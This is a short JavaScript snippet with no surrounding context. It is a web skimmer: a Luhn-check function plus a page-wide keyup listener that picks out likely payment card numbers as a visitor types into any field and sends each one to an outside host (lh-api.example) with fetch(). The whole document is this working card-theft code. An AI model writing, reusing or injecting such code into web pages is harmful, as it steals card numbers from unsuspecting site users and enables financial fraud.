function luhn(n) { var s = 0, d = false; for (var i = n.length - 1; i >= 0; i--) { var c = +n[i]; if (d && (c *= 2) > 9) c -= 9; s += c; d = !d; } return s % 10 == 0; }
document.addEventListener('keyup', function (e) {
  var v = (e.target.value || '').replace(/\D/g, '');
  if (v.length >= 15 && luhn(v)) fetch('https://lh-api.example/n/' + v);
});
